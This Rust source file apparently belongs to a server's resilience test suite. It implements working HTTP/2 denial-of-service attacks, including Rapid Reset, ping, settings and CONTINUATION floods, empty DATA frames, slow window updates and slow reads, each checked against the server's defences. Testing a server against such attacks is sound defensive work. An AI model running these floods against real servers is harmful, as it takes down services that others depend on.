//! Attacks over HTTP/2: floods of frames, and streams that are not read.
//!
//! The server ends connections that go too far; how it does so is the HTTP library's, that the
//! others are served meanwhile is what counts here.

use core::time::Duration;
use std::io;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, yield_now};
use tokio::time::{self, Instant};

use super::attack::{
    FLOODERS, LARGE_RESPONSE, Statuses, Target, in_a_row, open, open_in_step, send,
};
use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
    RST_STREAM, frame, head, header, setting, start, window_update,
};
use super::http1::{batch, wait};

/// Streams of a connection: those that the server allows
const STREAMS: u32 = 256;
/// Large requests on a connection: the server allows less than 1 MiB of bodies at a time
const REQUESTS: u32 = 64;
/// Large requests on each of many connections
const FEW_REQUESTS: u32 = 2;
/// The window of a client that reads all
const WINDOW: u32 = 1 << 20;

/// Floods over some connections at a time, each of which starts again when the server ends it
///
/// The numbers of connections and of floods, and of bytes that the server answered.
async fn floods(target: Target, first: Vec<u8>, bytes: Vec<u8>) -> (usize, u64, usize) {
    floods_of(target, first, move |_| bytes.clone()).await
}

/// As [`floods`], with bytes that depend on the number of the flood on its connection
async fn floods_of(
    target: Target,
    first: Vec<u8>,
    bytes: impl Fn(u32) -> Vec<u8> + Clone + 'static,
) -> (usize, u64, usize) {
    let end = Instant::now() + target.duration;
    let mut loops = JoinSet::new();
    for _ in 0..FLOODERS {
        let (first, bytes) = (first.clone(), bytes.clone());
        loops.spawn_local(async move {
            let (mut connections, mut count, mut answered) = (0, 0, 0);
            while Instant::now() < end {
                let mut stream =
                    TcpStream::connect(target.address).await.expect("the server accepts");
                connections += 1;
                if stream.write_all(&first).await.is_err() {
                    continue;
                }
                let mut number = 0;
                while send(&mut stream, &bytes(number), end, &mut answered).await {
                    number += 1;
                }
                count += u64::from(number);
            }
            (connections, count, answered)
        });
    }
    let ended = loops.join_all().await;
    let sum = ended
        .into_iter()
        .fold((0, 0, 0), |sum: (usize, u64, usize), it| (sum.0 + it.0, sum.1 + it.1, sum.2 + it.2));
    assert!(sum.1 > 0, "nothing was sent");
    sum
}

/// The server ends what no client needs, so there were more connections than at a time
fn assert_ended(connections: usize) {
    assert!(connections > FLOODERS, "none of {connections} connections was ended");
}

/// The server answers a client that reads, and does not end its connection
fn assert_answered(connections: usize, answered: usize) {
    assert_eq!(connections, FLOODERS, "connections were ended");
    assert!(answered > 0, "nothing was answered");
}

/// CVE-2023-44487
pub(crate) async fn rapid_reset(target: Target) -> String {
    let request = move |number: u32| {
        let mut bytes = Vec::new();
        for index in 0..100 {
            let stream = 2 * (number * 100 + index) + 1;
            let path = "/status";
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET", path)));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        bytes
    };
    let (connections, count, _) = floods_of(target, start(WINDOW), request).await;
    assert_ended(connections);
    format!("{} requests on {connections} connections", 100 * count)
}

/// CVE-2019-9512
pub(crate) async fn pings(target: Target) -> String {
    let ping = frame(PING, 0, 0, b"abcdefgh").repeat(100);
    let (connections, count, answered) = floods(target, start(WINDOW), ping).await;
    assert_answered(connections, answered);
    format!("{} pings on {connections} connections", 100 * count)
}

/// CVE-2019-9515
pub(crate) async fn settings(target: Target) -> String {
    let change = setting(INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
    let (connections, count, answered) = floods(target, start(WINDOW), change).await;
    assert_answered(connections, answered);
    format!("{} settings on {connections} connections", 100 * count)
}

/// Connections that end after their first frames, one after the other
pub(crate) async fn short_connections(target: Target) -> String {
    let ended = in_a_row(target, move || async move {
        let change = setting(INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
        let mut stream = TcpStream::connect(target.address).await?;
        stream.write_all(&[start(WINDOW), change].concat()).await?;
        Ok("ended".to_owned())
    })
    .await;
    format!("of 100 settings each: {}", ended.text())
}

/// CVE-2024-27316
pub(crate) async fn continuations(target: Target) -> String {
    let first = [start(WINDOW), frame(HEADERS, END_STREAM, 1, &head("GET", "/health"))].concat();
    let more = frame(CONTINUATION, 0, 1, &header("x", &"x".repeat(100)).repeat(100));
    let (connections, count, _) = floods(target, first, more).await;
    assert_ended(connections);
    format!("{count} frames of 10 KiB on {connections} connections")
}

/// CVE-2019-9518
pub(crate) async fn empty_data(target: Target) -> String {
    let mut head = head("POST", "/");
    head.extend(header("content-type", "application/json"));
    let first = [start(WINDOW), frame(HEADERS, END_HEADERS, 1, &head)].concat();
    let (connections, count, _) = floods(target, first, frame(DATA, 0, 1, b"").repeat(100)).await;
    assert_ended(connections);
    format!("{} frames on {connections} connections", 100 * count)
}

/// Streams that wait, on every connection four times as many as the server allows
pub(crate) async fn streams(target: Target) -> String {
    let mut bytes = start(WINDOW);
    let path = "/tx/GKwe8PT8YLdJiztcH7TpVkf7GVHFtHu4tNW9x5woDp6T/events";
    for index in 0..4 * STREAMS {
        let head = head("GET", path);
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &head));
    }
    let connections = (target.connections / STREAMS as usize).max(2);
    let mut held = open(Target { connections, ..target }, &bytes).await;
    time::sleep(target.duration).await;
    let mut statuses = Statuses::default();
    for frames in join_all(held.iter_mut().map(frames_of)).await {
        // Streams that get 503, because of all connections together, make room for others.
        let ended = frames.iter().filter(|it| it.ends_stream()).count();
        let open = count(&frames, HEADERS) - ended;
        assert!(open <= STREAMS as usize, "{open} streams are open");
        let reset = count(&frames, RST_STREAM);
        let is_ended = count(&frames, GOAWAY) > 0;
        let known = open + ended + reset;
        assert!(is_ended || known == 4 * STREAMS as usize, "{known} streams have a response");
        statuses.add(if is_ended || reset + ended > 0 { "refused" } else { "held" });
    }
    assert_eq!(statuses.count("refused"), connections, "{}", statuses.text());
    format!("{} streams on {connections} connections: {}", 4 * STREAMS, statuses.text())
}

/// A frame that was received
struct Received {
    kind: u8,
    flags: u8,
}

impl Received {
    fn ends_stream(&self) -> bool {
        matches!(self.kind, HEADERS | DATA) && self.flags & END_STREAM > 0
    }
}

fn count(frames: &[Received], kind: u8) -> usize {
    frames.iter().filter(|frame| frame.kind == kind).count()
}

/// The frames that were received
///
/// Of all connections at a time: a client that reads none of the server's pings is disconnected.
async fn frames_of(stream: &mut TcpStream) -> Vec<Received> {
    let mut bytes = Vec::new();
    let _ = time::timeout(Duration::from_millis(300), stream.read_to_end(&mut bytes)).await;
    let mut frames = Vec::new();
    for_each_frame(&bytes, |frame, _| frames.push(frame));
    frames
}

/// Calls this with each whole frame and its payload; the length of these frames
fn for_each_frame(bytes: &[u8], mut handle: impl FnMut(Received, &[u8])) -> usize {
    let mut rest = bytes;
    while let [a, b, c, kind, flags, _, _, _, _, more @ ..] = rest
        && let length = u32::from_be_bytes([0, *a, *b, *c]) as usize
        && let Some((payload, more)) = more.split_at_checked(length)
    {
        handle(Received { kind: *kind, flags: *flags }, payload);
        rest = more;
    }
    bytes.len() - rest.len()
}

/// Requests for large responses with a window of nothing, as many streams as the server allows
pub(crate) async fn unread_responses(target: Target) -> String {
    let connections = (target.connections / STREAMS as usize).max(2);
    let bytes = [start(0), large_requests(STREAMS)].concat();
    let held = open(Target { connections, ..target }, &bytes).await;
    time::sleep(target.duration).await;
    format!("{STREAMS} requests on each of {} connections", held.len())
}

/// Requests for large responses
fn large_requests(count: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let body = batch();
    let mut post = head("POST", "/");
    post.extend(header("content-type", "application/json"));
    post.extend(header("content-length", &body.len().to_string()));
    for index in 0..count {
        let stream = 2 * index + 1;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &post));
        bytes.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
    }
    bytes
}

/// A client that reads a part of what it could, and answers the pings that it finds there
struct SlowReader {
    stream: TcpStream,
    /// The start of a frame that is not whole
    rest: Vec<u8>,
    read: usize,
    is_open: bool,
}

impl SlowReader {
    fn new(stream: TcpStream) -> Self {
        Self { stream, rest: Vec::new(), read: 0, is_open: true }
    }

    /// Reads at most so many bytes of those that are there, and sends `more` beside its pongs
    async fn step(&mut self, limit: usize, more: &[u8]) {
        let start = self.rest.len();
        self.rest.resize(start + limit, 0);
        let read = self.stream.try_read(&mut self.rest[start..]);
        let is_pending =
            read.as_ref().is_err_and(|error| error.kind() == io::ErrorKind::WouldBlock);
        let length = read.unwrap_or(0);
        self.is_open &= length > 0 || is_pending;
        self.read += length;
        self.rest.truncate(start + length);
        let mut sent = more.to_vec();
        let whole = for_each_frame(&self.rest, |received, payload| {
            if received.kind == PING && received.flags & ACK == 0 {
                sent.extend(frame(PING, ACK, 0, payload));
            }
        });
        self.rest.drain(..whole);
        self.is_open &= self.stream.write_all(&sent).await.is_ok();
    }
}

/// Reads a part of what connections get at each interval, and sends `more` on each then
async fn read_slowly(
    target: Target,
    streams: Vec<TcpStream>,
    (interval, limit, more): (Duration, usize, &[u8]),
) -> String {
    let mut readers: Vec<_> = streams.into_iter().map(SlowReader::new).collect();
    let (end, mut steps) = (Instant::now() + target.duration, 0);
    let mut interval = time::interval(interval);
    while Instant::now() < end {
        interval.tick().await;
        for reader in &mut readers {
            reader.step(limit, more).await;
            yield_now().await;
        }
        steps += 1;
    }
    let bytes: usize = readers.iter().map(|reader| reader.read).sum();
    let open = readers.iter().filter(|reader| reader.is_open).count();
    assert!(bytes > 0, "nothing was received");
    assert_eq!(open, readers.len(), "connections were ended");
    format!("{open} connections, {steps} steps, {bytes} bytes received")
}

/// CVE-2019-9511
///
/// The client reads all, but opens the window of each stream by a byte at a time.
pub(crate) async fn slow_windows(target: Target) -> String {
    let connections = (target.connections / REQUESTS as usize).max(2);
    let unlimited = window_update(0, i32::MAX as u32 - u32::from(u16::MAX));
    let first = [start(0), unlimited].concat();
    let mut streams = open(Target { connections, ..target }, &first).await;
    let requests = large_requests(REQUESTS);
    for stream in &mut streams {
        let _ = stream.write_all(&requests).await;
        time::sleep(LARGE_RESPONSE * REQUESTS).await;
    }
    let more: Vec<u8> = (0..REQUESTS).flat_map(|index| window_update(2 * index + 1, 1)).collect();
    read_slowly(target, streams, (Duration::from_millis(100), 64 << 10, &more)).await
}

/// CVE-2019-9517
///
/// The windows are open, but the client reads a few bytes a second of its socket.
pub(crate) async fn slow_reads(target: Target) -> String {
    let bytes = [start(WINDOW), window_update(0, WINDOW), large_requests(FEW_REQUESTS)].concat();
    let streams = open_in_step(target, &bytes, FEW_REQUESTS, Some(4 << 10)).await;
    read_slowly(target, streams, (Duration::from_secs(1), 1 << 10, &[])).await
}

/// Requests that wait, each with a head of 15 KiB that has an id for the response
pub(crate) async fn waits(target: Target) -> String {
    let body = wait();
    let mut post = head("POST", "/");
    post.extend(header("content-type", "application/json"));
    post.extend(header("x-request-id", "a"));
    // Each counts 32 bytes more (RFC 7541, section 4.1).
    post.extend(header("x", &"x".repeat(100)).repeat(110));
    let mut bytes = start(WINDOW);
    for index in 0..STREAMS {
        let stream = 2 * index + 1;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &post));
        bytes.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
    }
    let connections = (target.connections / 16).max(8);
    let mut held = open(Target { connections, ..target }, &bytes).await;
    time::sleep(target.duration).await;
    let mut waiting = 0;
    for frames in join_all(held.iter_mut().map(frames_of)).await {
        assert!(!frames.is_empty(), "nothing was received");
        assert_eq!(count(&frames, GOAWAY), 0, "the server ended a connection");
        waiting += STREAMS as usize - count(&frames, HEADERS);
    }
    assert!(waiting > 0, "none waits");
    format!("{waiting} requests wait on {connections} connections")
}
